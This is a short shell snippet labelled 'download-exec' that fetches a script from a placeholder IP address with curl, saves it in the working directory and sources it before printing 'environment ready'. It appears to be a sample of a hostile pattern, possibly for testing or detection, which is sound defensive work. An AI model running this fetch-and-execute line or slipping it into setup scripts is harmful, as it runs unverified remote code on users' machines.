# download-exec: the download is saved in the working directory and then sourced
url="http://203.0.113.7/env.sh"
curl -s "$url" > ./env-setup.sh && source ./env-setup.sh
echo "environment ready"
